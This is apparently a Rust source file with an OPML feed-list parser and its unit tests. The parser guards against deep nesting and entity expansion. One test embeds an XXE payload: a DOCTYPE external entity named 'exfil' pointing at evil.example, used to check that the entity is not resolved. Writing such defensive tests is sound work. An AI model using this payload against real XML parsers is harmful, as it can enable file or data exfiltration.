use quick_xml::events::{BytesStart, Event};
use quick_xml::Reader;
use thiserror::Error;

/// Maximum allowed nesting depth for OPML outline elements.
/// Prevents stack overflow attacks from maliciously crafted deeply nested OPMLs.
const MAX_OPML_DEPTH: usize = 50;

/// Errors that can occur during OPML parsing.
#[derive(Debug, Error)]
pub enum OpmlError {
    /// OPML nesting depth exceeds safety limit.
    #[error("OPML nesting depth exceeds maximum of {0} levels")]
    MaxDepthExceeded(usize),

    /// XML parsing failed.
    #[error("XML parse error: {0}")]
    XmlParse(String),
}

/// Returns true when a feed list file holds an OPML document rather than
/// plain lines of URLs.
pub fn looks_like_opml(content: &str) -> bool {
    let head = content.trim_start();
    head.starts_with("<?xml") || head.starts_with("<opml")
}

/// Extracts the `xmlUrl` of every `<outline>` in document order.
///
/// Handles both nested and flat OPML structures. Category/folder outlines
/// (those without `xmlUrl`) are traversed but not returned. URLs are passed
/// through unvalidated; the fetcher rejects bad ones per feed.
pub fn parse_opml_urls(content: &str) -> Result<Vec<String>, OpmlError> {
    // quick-xml (0.37) resolves only the five XML builtin entities.
    // Custom entities like &xxe; surface as an unescape error and the outline
    // is skipped.
    let mut reader = Reader::from_str(content);
    reader.config_mut().trim_text(true);

    let mut urls = Vec::new();
    let mut depth: usize = 0;

    loop {
        match reader.read_event() {
            Ok(Event::Start(e)) if e.name().as_ref() == b"outline" => {
                depth += 1;
                if depth > MAX_OPML_DEPTH {
                    return Err(OpmlError::MaxDepthExceeded(MAX_OPML_DEPTH));
                }
                urls.extend(outline_url(&e, &reader));
            }
            Ok(Event::Empty(e)) if e.name().as_ref() == b"outline" => {
                // Self-closing outline doesn't affect depth
                urls.extend(outline_url(&e, &reader));
            }
            Ok(Event::End(e)) if e.name().as_ref() == b"outline" => {
                depth = depth.saturating_sub(1);
            }
            Ok(Event::Eof) => break,
            Err(e) => return Err(OpmlError::XmlParse(e.to_string())),
            _ => {}
        }
    }

    Ok(urls)
}

fn outline_url(e: &BytesStart<'_>, reader: &Reader<&[u8]>) -> Option<String> {
    for attr_result in e.attributes() {
        let attr = match attr_result {
            Ok(attr) => attr,
            Err(e) => {
                tracing::warn!(error = %e, "Skipping malformed OPML attribute");
                continue;
            }
        };
        if attr.key.as_ref() == b"xmlUrl" {
            return match attr.decode_and_unescape_value(reader.decoder()) {
                Ok(url) => {
                    let url = url.trim();
                    (!url.is_empty()).then(|| url.to_string())
                }
                Err(e) => {
                    tracing::warn!(error = %e, "Skipping OPML outline with undecodable xmlUrl");
                    None
                }
            };
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_parse_nested_and_flat_outlines() {
        let opml = r#"<?xml version="1.0"?>
<opml version="2.0">
  <head><title>Subs</title></head>
  <body>
    <outline text="Tech">
      <outline text="A" xmlUrl="https://a.example/feed"/>
      <outline text="B" xmlUrl="https://b.example/rss"></outline>
    </outline>
    <outline text="C" xmlUrl="https://c.example/atom"/>
  </body>
</opml>"#;
        assert_eq!(
            parse_opml_urls(opml).unwrap(),
            vec![
                "https://a.example/feed",
                "https://b.example/rss",
                "https://c.example/atom"
            ]
        );
    }

    #[test]
    fn test_empty_opml() {
        let opml = r#"<opml version="2.0"><body></body></opml>"#;
        assert!(parse_opml_urls(opml).unwrap().is_empty());
    }

    #[test]
    fn test_malformed_xml_error() {
        let result = parse_opml_urls("<opml><body><outline></body></opml>");
        assert!(matches!(result, Err(OpmlError::XmlParse(_))));
    }

    #[test]
    fn test_xxe_entity_in_url_attribute_not_expanded() {
        // the entity must never resolve to the declared target
        let opml = r#"<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY exfil SYSTEM "https://evil.example/steal">]>
<opml version="2.0"><body>
  <outline text="Bad" xmlUrl="&exfil;"/>
  <outline text="Good" xmlUrl="https://good.example/feed"/>
</body></opml>"#;
        match parse_opml_urls(opml) {
            Ok(urls) => {
                assert!(
                    urls.iter().all(|u| !u.contains("evil.example")),
                    "Entity expanded in URL: {urls:?}"
                );
                assert!(urls.contains(&"https://good.example/feed".to_string()));
            }
            Err(_) => {
                // Rejecting the document outright is also acceptable
            }
        }
    }

    #[test]
    fn test_deeply_nested_opml_rejected() {
        let mut opml = String::from("<opml><body>");
        for _ in 0..=MAX_OPML_DEPTH {
            opml.push_str("<outline text=\"x\">");
        }
        for _ in 0..=MAX_OPML_DEPTH {
            opml.push_str("</outline>");
        }
        opml.push_str("</body></opml>");

        assert!(matches!(
            parse_opml_urls(&opml),
            Err(OpmlError::MaxDepthExceeded(MAX_OPML_DEPTH))
        ));
    }

    #[test]
    fn test_looks_like_opml() {
        assert!(looks_like_opml("<?xml version=\"1.0\"?><opml/>"));
        assert!(looks_like_opml("\n  <opml version=\"2.0\"></opml>"));
        assert!(!looks_like_opml("https://example.com/feed\n"));
    }
}
